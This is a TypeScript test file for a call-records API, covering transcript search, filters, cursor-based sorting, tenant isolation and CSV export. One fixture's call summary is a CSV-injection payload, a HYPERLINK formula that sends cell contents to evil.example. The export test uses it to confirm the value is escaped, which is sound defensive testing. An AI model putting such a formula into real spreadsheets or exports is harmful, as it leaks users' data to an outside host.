// GET /api/v1/calls: transcript search, outcome and duration filters, the three sorts with their
// cursors; GET /api/v1/calls/export: the CSV equals the list. Real route handlers and database.
import { parse } from "csv-parse/sync";
import { beforeAll, describe, expect, it } from "vitest";
import * as collection from "./calls/route";
import * as exporter from "./calls/export/route";
import { getDb } from "@/lib/db/client";
import { exportCallsCsv } from "@/lib/calls/export";
import type { CallCursor } from "@/lib/calls/cursor";
import { callExportQuerySchema, type CallFilters } from "@/lib/calls/list-query";
import { SEARCH_STEPS, selectCallPage } from "@/lib/calls/list-sql";
import type { Prisma } from "@/lib/db/generated/client";
import { apiRequest, createTestCall, createTestTenant, json, type TestTenant } from "@/lib/test/factories";

type Row = { id: string; durationSec: number | null; costCents: number };
type Spec = Partial<Prisma.CallUncheckedCreateInput> & { turns?: string[] };

let a: TestTenant;
let b: TestTenant;
const A: Record<string, Row> = {};
let callB: string;
let agentId: string;

const T = Date.parse("2026-06-01T12:00:00.000Z");
const at = (min: number) => new Date(T + min * 60_000);

const list = (t: TestTenant, query: string) => collection.GET(apiRequest("GET", `/api/v1/calls?${query}`, { cookie: t.user.cookie }));
const download = (t: TestTenant, query: string, cookie: string | null = t.user.cookie) =>
  exporter.GET(apiRequest("GET", `/api/v1/calls/export?${query}`, cookie ? { cookie } : {}));

async function makeCall(t: TestTenant, name: string, min: number, spec: Spec) {
  const { turns = [], ...data } = spec;
  const call = await createTestCall(t.tenant.id, { startedAt: at(min), status: "COMPLETED", ...data });
  // Alternating sides: a word must be found in the caller's turns and in the agent's.
  for (const [index, text] of turns.entries()) {
    await getDb().callTurn.create({ data: { tenantId: t.tenant.id, callId: call.id, index, role: index % 2 ? "CALLER" : "AGENT", text, startMs: index * 1000 } });
  }
  if (t === a) A[name] = call;
  return call;
}

beforeAll(async () => {
  [a, b] = await Promise.all([createTestTenant("Search A"), createTestTenant("Search B")]);
  const agent = await getDb().agent.create({ data: { tenantId: a.tenant.id, name: "Ava", greeting: "Hi", systemPrompt: "Help.", businessHours: {} } });
  agentId = agent.id;
  // Three calls of 60 s and two of cost 10: ties the id must break; two live calls without a duration.
  await makeCall(a, "c1", 1, { durationSec: 60, costCents: 10, outcome: "BOOKED", agentId: agent.id, turns: ["Thanks for calling Parkside Dental", "I need the PARKING validation"] });
  await makeCall(a, "c2", 2, { durationSec: 60, costCents: 10, outcome: "RESOLVED", turns: ["Hello", "My refund for the blue sweater", "Your refund is processed"] });
  await makeCall(a, "c3", 3, {
    durationSec: 120, costCents: 30, outcome: "MESSAGE_TAKEN", fromNumber: "+15550101", agentId: agent.id, summary: '=HYPERLINK("http://evil.example/?"&A1)',
    turns: ["Hi", "There is a late fee on my statement, please call back"],
  });
  await makeCall(a, "c4", 4, { status: "IN_PROGRESS", costCents: 0, turns: ["Hi", "Where do I park?"] });
  await makeCall(a, "c5", 5, { status: "IN_PROGRESS", costCents: 0 });
  await makeCall(a, "c6", 6, { status: "NO_ANSWER", durationSec: 5, costCents: 1, outcome: "ABANDONED" });
  await makeCall(a, "c7", 7, { durationSec: 60, costCents: 25, summary: 'Said "hi", then, left\nearly', turns: ["Fee schedule"] });
  callB = (await makeCall(b, "b1", 8, { durationSec: 60, costCents: 10, turns: ["Welcome", "zebracorn parking refund"] })).id;
});

async function rows(t: TestTenant, query: string): Promise<string[]> {
  const res = await json(await list(t, query));
  expect(res.status, `${query} ${JSON.stringify(res.body)}`).toBe(200);
  return res.body.data.map((c: Row) => c.id);
}

async function walk(query: string, limit: number): Promise<string[]> {
  const seen: string[] = [];
  let cursor: string | null = null;
  for (let pages = 0; pages < 20; pages++) {
    const res: { status: number; body: { data: Row[]; next_cursor: string | null } } = await json(await list(a, `${query}&limit=${limit}${cursor ? `&cursor=${cursor}` : ""}`));
    expect(res.status, JSON.stringify(res.body)).toBe(200);
    seen.push(...res.body.data.map((c) => c.id));
    if (!(cursor = res.body.next_cursor)) break;
  }
  return seen;
}

/** Tenant A's calls in the order a sort must return them: by key, id breaking ties, null keys last. */
function expected(key: "durationSec" | "costCents", order: "asc" | "desc"): string[] {
  const s = order === "asc" ? 1 : -1;
  const cmp = (x: string | number, y: string | number) => (x < y ? -s : x > y ? s : 0);
  return Object.values(A)
    .sort((x, y) => (x[key] === null) !== (y[key] === null) ? (x[key] === null ? 1 : -1) : cmp(x[key] ?? 0, y[key] ?? 0) || cmp(x.id, y.id))
    .map((c) => c.id);
}

const names = (ids: string[]) => ids.map((id) => Object.keys(A).find((n) => A[n]!.id === id) ?? `foreign:${id}`);

describe("GET /api/v1/calls filters", () => {
  it("finds text said by either side, a call once however many turns match", async () => {
    expect(names(await rows(a, "q=parking"))).toEqual(["c1"]);
    expect(names(await rows(a, "q=refund"))).toEqual(["c2"]);
    expect(names(await rows(a, "q=processed"))).toEqual(["c2"]); // the agent's words
    expect(names(await rows(a, `q=${encodeURIComponent('"late fee"')}`))).toEqual(["c3"]);
    expect(names(await rows(a, "q=fee"))).toEqual(["c7", "c3"]);
    expect(names(await rows(a, `q=${encodeURIComponent("blue refund")}`))).toEqual(["c2"]);
    expect(await rows(a, `q=${encodeURIComponent("refund sweater!!")}`)).toEqual(await rows(a, "q=refund%20sweater"));
  });

  it("matches the last word as a prefix while it is being typed", async () => {
    expect(names(await rows(a, "q=park"))).toEqual(["c4", "c1"]); // park, Parkside, PARKING
    expect(names(await rows(a, "q=PARKI"))).toEqual(["c1"]);
    expect(names(await rows(a, `q=${encodeURIComponent("late f")}`))).toEqual(["c3"]);
    expect(await rows(a, `q=${encodeURIComponent('"late f"')}`)).toEqual([]); // inside a phrase: whole words
    expect(await rows(a, "q=%21%21%21")).toEqual([]); // no word at all: nothing, not everything
  });

  it("never matches another tenant's transcript", async () => {
    expect(await rows(a, "q=zebracorn")).toEqual([]);
    expect(await rows(a, "q=zebra")).toEqual([]);
    expect(await rows(b, "q=zebracorn")).toEqual([callB]);
    expect((await rows(a, "q=refund")).includes(callB)).toBe(false);
  });

  it("filters by outcome and minimum duration, with the other filters", async () => {
    expect(names(await rows(a, "outcome=BOOKED"))).toEqual(["c1"]);
    expect(names(await rows(a, "minDuration=60"))).toEqual(["c7", "c3", "c2", "c1"]);
    expect(names(await rows(a, "minDuration=61"))).toEqual(["c3"]);
    expect(names(await rows(a, `q=fee&minDuration=100&agentId=${agentId}`))).toEqual(["c3"]);
    expect(await rows(a, `q=refund&agentId=${agentId}`)).toEqual([]);
    expect(names(await rows(a, "q=park&status=IN_PROGRESS"))).toEqual(["c4"]);
  });

  it("refuses bad filters and sorts with 422 naming them", async () => {
    for (const [query, field] of [["outcome=WON", "outcome"], ["minDuration=-1", "minDuration"], ["sort=name", "sort"], ["order=up", "order"], [`q=${"x".repeat(201)}`, "q"], ["q=%20", "q"]]) {
      const res = await json(await list(a, query!));
      expect(res.status, query).toBe(422);
      expect(res.body.error, query).toMatchObject({ code: "VALIDATION_FAILED", field });
    }
  });
});

describe("transcript search steps", () => {
  // Each step alone must give the same pages: probing candidates (1), the GIN index's matches (2),
  // probing every candidate (3). Shrunk bounds make the few rows here take each step.
  const walkSteps = async (f: CallFilters, steps: typeof SEARCH_STEPS) => {
    const seen: string[] = [];
    let cursor: CallCursor | null = null;
    for (let pages = 0; pages < 20; pages++) {
      const page = await selectCallPage(getDb(), { tenantId: a.tenant.id }, f, cursor, 3, steps); // pages of 2, one more to go on
      seen.push(...page.slice(0, 2).map((r) => r.id));
      const last = page[1];
      if (page.length < 3 || !last) break;
      cursor = { sort: f.sort, order: f.order, key: last.key, id: last.id };
    }
    return seen;
  };

  it.each(["park", "fee", "hi", "refund", "zebracorn"])("q=%s: the same calls whichever step answers", async (q) => {
    for (const [sort, order] of [["started_at", "desc"], ["duration", "asc"], ["cost", "desc"]] as const) {
      const f = callExportQuerySchema.parse({ q, sort, order });
      const want = await walk(`q=${q}&sort=${sort}&order=${order}`, 100);
      for (const steps of [{ probedCalls: 1000, indexedTurns: 1000 }, { probedCalls: 0, indexedTurns: 1000 }, { probedCalls: 0, indexedTurns: 0 }]) {
        expect(names(await walkSteps(f, steps)), `${q} ${sort} ${order} ${JSON.stringify(steps)}`).toEqual(names(want));
      }
    }
  });
});

describe("GET /api/v1/calls sorting", () => {
  it.each([
    ["duration", "desc", "durationSec"],
    ["duration", "asc", "durationSec"],
    ["cost", "desc", "costCents"],
    ["cost", "asc", "costCents"],
  ] as const)("sort=%s order=%s pages every call once, ties by id, live calls last", async (sort, order, key) => {
    const want = expected(key, order);
    expect(names(await rows(a, `sort=${sort}&order=${order}`))).toEqual(names(want));
    for (const limit of [1, 2, 3]) expect(names(await walk(`sort=${sort}&order=${order}`, limit)), `limit ${limit}`).toEqual(names(want));
  });

  it("sorts by start time, oldest first on request", async () => {
    expect(names(await walk("sort=started_at&order=asc", 3))).toEqual(["c1", "c2", "c3", "c4", "c5", "c6", "c7"]);
    expect(names(await walk("status=IN_PROGRESS&sort=duration&order=asc", 1))).toEqual(names([A.c4!.id, A.c5!.id].sort()));
  });

  it("refuses a cursor made for another sort or order with 422", async () => {
    const first = await json(await list(a, "sort=duration&order=desc&limit=2"));
    const cursor = first.body.next_cursor as string;
    for (const query of ["sort=cost&order=desc", "sort=duration&order=asc", ""]) {
      const res = await json(await list(a, `${query}&cursor=${cursor}`));
      expect(res.status, query).toBe(422);
      expect(res.body.error, query).toMatchObject({ code: "VALIDATION_FAILED", field: "cursor" });
    }
  });
});

describe("GET /api/v1/calls/export", () => {
  const csvIds = (text: string) => (parse(text, { columns: true }) as { id: string }[]).map((r) => r.id);

  it("streams the filtered, sorted list as a CSV download", async () => {
    for (const query of ["", "sort=duration&order=asc", "status=COMPLETED&sort=cost", "q=park", "minDuration=60&order=asc"]) {
      const res = await download(a, query);
      expect(res.status, query).toBe(200);
      expect(res.headers.get("content-type")).toBe("text/csv; charset=utf-8");
      expect(res.headers.get("content-disposition")).toMatch(/^attachment; filename="calls-\d{4}-\d{2}-\d{2}\.csv"$/);
      expect(csvIds(await res.text()), query).toEqual(await walk(query, 100));
    }
  });

  it("writes the columns escaped and defused against CSV injection", async () => {
    const text = await (await download(a, "sort=cost&order=desc")).text();
    expect(text.split("\r\n")[0]).toBe("id,started_at,caller,to,agent,direction,status,duration_sec,outcome,ended_reason,cost,summary");
    const records = parse(text, { columns: true }) as Record<string, string>[];
    expect(records.find((r) => r.id === A.c3!.id)).toEqual({
      id: A.c3!.id, started_at: at(3).toISOString(), caller: "+15550101", to: "+15550100001", agent: "Ava", direction: "INBOUND",
      status: "COMPLETED", duration_sec: "120", outcome: "MESSAGE_TAKEN", ended_reason: "", cost: "0.30", summary: `'=HYPERLINK("http://evil.example/?"&A1)`,
    });
    expect(records.find((r) => r.id === A.c7!.id)).toMatchObject({ agent: "", cost: "0.25", summary: 'Said "hi", then, left\nearly' });
    expect(records.find((r) => r.id === A.c4!.id)).toMatchObject({ duration_sec: "", outcome: "", cost: "0.00" });
  });

  it("reads page after page: the same rows with pages of two", async () => {
    const f = callExportQuerySchema.parse({ sort: "duration" });
    const stream = await exportCallsCsv({ tenantId: a.tenant.id, role: "USER", actor: { userId: a.user.id } }, f, 2);
    expect(csvIds(await new Response(stream).text())).toEqual(await walk("sort=duration", 100));
  });

  it("never exports another tenant's calls, needs a session, refuses list-only parameters", async () => {
    expect(csvIds(await (await download(a, "q=zebracorn")).text())).toEqual([]);
    expect(csvIds(await (await download(a, "")).text()).includes(callB)).toBe(false);
    expect(csvIds(await (await download(b, "")).text())).toEqual([callB]);
    expect((await download(a, "", null)).status).toBe(401);
    for (const [query, field] of [["limit=5", "limit"], ["cursor=abc", "cursor"], ["sort=name", "sort"]]) {
      const res = await json(await download(a, query!));
      expect(res.status, query).toBe(422);
      expect(res.body.error, query).toMatchObject({ code: "VALIDATION_FAILED", field });
    }
  });
});
